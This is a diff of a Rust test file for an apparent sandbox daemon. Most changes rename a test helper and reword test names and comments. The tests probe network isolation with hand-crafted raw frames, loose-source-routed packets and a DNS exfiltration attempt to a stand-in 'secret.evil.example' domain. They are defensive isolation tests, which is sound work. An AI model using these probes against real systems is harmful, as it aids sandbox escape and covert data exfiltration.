@@ -13,8 +13,8 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::thread::{self, JoinHandle};
 use std::time::Duration;
 use support::lab::{HOST, RESOLVER, with_lab};
-use support::networked::{clean, create, networked, python, reach, root_python};
-use support::place::Place;
+use support::network_probe::{clean, create, networked, python, reach, root_python};
+use support::test_home::TestHome;
 
 /// Frames by hand, for programs in guests.
 const FRAMES: &str = r#"
@@ -40,7 +40,7 @@ def udp(to, text, port=7, **more):
     return ip(to, 17, struct.pack("!HHHH", 5000, port, 8 + len(text), 0) + text, **more)
 "#;
 
-/// Numbers of the TCP ports that somebody listens at in this network namespace.
+/// Numbers of the TCP ports with a listener in this network namespace.
 fn listening() -> BTreeSet<u16> {
     let mut ports = BTreeSet::new();
     for file in ["tcp", "tcp6"] {
@@ -61,22 +61,22 @@ fn listening() -> BTreeSet<u16> {
 fn no_address_leads_a_guest_to_its_daemon_or_to_a_port_of_its_host() {
     let test = "no_address_leads_a_guest_to_its_daemon_or_to_a_port_of_its_host";
     with_lab(test, |_| {
-        let Some(place) = Place::new(test) else {
+        let Some(test_home) = TestHome::new(test) else {
             return;
         };
         let heard = UdpSocket::bind("0.0.0.0:7").unwrap();
         // Without a key it would not listen to others.
-        place.ok(&["key", "create", "--name", "test"]);
+        test_home.ok(&["key", "create", "--name", "test"]);
         let start = ["daemon", "start", "--listen", "0.0.0.0:0"];
         let options = ["--network", "on", "--warm-pool", "0"];
-        let told = place.ok(&[&start[..], &options].concat());
+        let told = test_home.ok(&[&start[..], &options].concat());
         let port = told.lines().find_map(|l| l.strip_prefix("listening on "));
         let port: u16 = port.unwrap().rsplit(':').next().unwrap().parse().unwrap();
         let mut ports = listening();
         assert!(ports.contains(&port), "{ports:?} of {told}");
         // Of its namespace: names, the way by name, and what a careless program might listen at.
         ports.extend([22, 53, 80, 443, 3000, 3180, 3443, 8080, 49_983, 49_984]);
-        let id = place.ok(&["create"]);
+        let id = test_home.ok(&["create"]);
         let slots: Vec<String> = (0..8).map(|i| format!("198.18.0.{i}")).collect();
         let addresses = [HOST, "169.254.0.22", "169.254.0.1", "0.0.0.0", "11.0.0.255"];
         let addresses = addresses.map(str::to_owned).into_iter().chain(slots);
@@ -97,7 +97,10 @@ print(sorted(found))
 "#
         );
         // Its own name server is all there is; the address of everybody is the guest itself.
-        assert_eq!(root_python(&place, &id, &program), "[('169.254.0.22', 53)]");
+        assert_eq!(
+            root_python(&test_home, &id, &program),
+            "[('169.254.0.22', 53)]"
+        );
         // By hand also to where no socket would send: the host's loopback, everybody, many, itself
         // under another name; with a route of the sender's choice (RFC 791, loose source routing).
         let program = format!(
@@ -111,17 +114,17 @@ for to in here:
     send(0x0800, udp("9.9.9.9", b"by the way", options=b"\x83\x07\x04" + socket.inet_aton(to) + b"\0"))
 "#
         );
-        root_python(&place, &id, &program);
+        root_python(&test_home, &id, &program);
         // Earlier packets have passed when an answer came back over the same wire.
-        assert_eq!(reach(&place, &id, "9.9.9.9"), "internet");
+        assert_eq!(reach(&test_home, &id, "9.9.9.9"), "internet");
         heard.set_nonblocking(true).unwrap();
         let mut buffer = [0; 64];
         assert!(
             heard.recv_from(&mut buffer).is_err(),
             "the host was reached"
         );
-        place.ok(&["daemon", "stop", "--kill-sandboxes"]);
-        drop(place);
+        test_home.ok(&["daemon", "stop", "--kill-sandboxes"]);
+        drop(test_home);
         clean();
     });
 }
@@ -139,7 +142,7 @@ fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
         )
     };
     assert!(fd >= 0);
-    // SAFETY: it was just made and is nobody else's.
+    // SAFETY: it was just made and has no other owner.
     let socket = unsafe { OwnedFd::from_raw_fd(fd) };
     thread::spawn(move || {
         let mut seen = BTreeSet::new();
@@ -180,11 +183,11 @@ fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
 }
 
 #[test]
-fn raw_frames_of_any_kind_come_to_nobody() {
-    let test = "raw_frames_of_any_kind_come_to_nobody";
-    networked(test, &[], |place, lab| {
-        let (id, other) = (place.ok(&["create"]), place.ok(&["create"]));
-        assert_eq!(reach(place, &other, "9.9.9.9"), "internet");
+fn raw_frames_of_any_kind_reach_no_other_guest() {
+    let test = "raw_frames_of_any_kind_reach_no_other_guest";
+    networked(test, &[], |test_home, lab| {
+        let (id, other) = (test_home.ok(&["create"]), test_home.ok(&["create"]));
+        assert_eq!(reach(test_home, &other, "9.9.9.9"), "internet");
         let stop = Arc::new(AtomicBool::new(false));
         let sniffer = listen_to_slots(stop.clone());
         let program = format!(
@@ -238,14 +241,14 @@ for protocol in (2, 4, 41, 47, 50, 89, 112, 132, 255):
 send(0x0800, udp("9.9.9.9", b"its own"))
 "#
         );
-        root_python(place, &id, &program);
+        root_python(test_home, &id, &program);
         // Earlier packets came on the same way, so they have arrived.
         let (from, text) = lab.datagrams.recv_timeout(Duration::from_secs(20)).unwrap();
         assert_eq!(String::from_utf8_lossy(&text), "its own");
         assert_eq!(from.ip().to_string(), HOST);
         // No connection was diverted.
-        assert_eq!(reach(place, &other, "9.9.9.9"), "internet");
-        assert_eq!(reach(place, &id, "9.9.9.9"), "internet");
+        assert_eq!(reach(test_home, &other, "9.9.9.9"), "internet");
+        assert_eq!(reach(test_home, &id, "9.9.9.9"), "internet");
         stop.store(true, Ordering::SeqCst);
         let seen = sniffer.join().unwrap();
         let expected = ["ARP", "IPv4 from 198.18"].map(str::to_owned);
@@ -277,10 +280,10 @@ def ask(server, name, kind=1, over="udp"):
 "#;
 
 #[test]
-fn names_carry_nothing_out_where_nothing_or_only_names_may_be_reached() {
-    let test = "names_carry_nothing_out_where_nothing_or_only_names_may_be_reached";
-    networked(test, &[], |place, _| {
-        let say = |id: &str, program: &str| python(place, id, &format!("{ASK}\n{program}"));
+fn dns_carries_no_data_out_under_restricted_egress() {
+    let test = "dns_carries_no_data_out_under_restricted_egress";
+    networked(test, &[], |test_home, _| {
+        let say = |id: &str, program: &str| python(test_home, id, &format!("{ASK}\n{program}"));
         // A (1), NS, CNAME, NULL, TXT and AAAA; its own server and others, which would answer.
         let program = format!(
             r#"
@@ -290,18 +293,18 @@ others = {{ask("{RESOLVER}", name, kind, over) for kind in (1, 16) for over in (
 print(*own, *others, ask("169.254.0.22", "good.example"))
 "#
         );
-        let open = create(place, json!({}));
+        let open = create(test_home, json!({}));
         let secret = "print(ask('169.254.0.22', 'secret.evil.example', 16))";
         assert_eq!(say(&open, secret), "answer");
         let at_resolver = format!("print(ask('{RESOLVER}', 'a.example'), tcp('{RESOLVER}', 53))");
         assert_eq!(say(&open, &at_resolver), "answer internet");
 
-        let closed = create(place, json!({ "allow_internet_access": false }));
+        let closed = create(test_home, json!({ "allow_internet_access": false }));
         assert_eq!(say(&closed, &program), "refused nobody refused");
 
         let rules =
             json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
-        let names = create(place, rules);
+        let names = create(test_home, rules);
         assert_eq!(say(&names, &program), "refused nobody answer");
         // Nor hidden in one that is allowed: as two questions, as another class, or behind what a
         // server would cut off.
@@ -325,6 +328,6 @@ print(raw(two), raw(evil[:2] + b"\x29" + evil[3:]), raw(evil[:2] + b"\x81" + evi
 
 on_gvisor! {
     no_address_leads_a_guest_to_its_daemon_or_to_a_port_of_its_host,
-    raw_frames_of_any_kind_come_to_nobody cannot hold: "gVisor lets no bound packet socket send",
-    names_carry_nothing_out_where_nothing_or_only_names_may_be_reached,
+    raw_frames_of_any_kind_reach_no_other_guest cannot hold: "gVisor lets no bound packet socket send",
+    dns_carries_no_data_out_under_restricted_egress,
 }
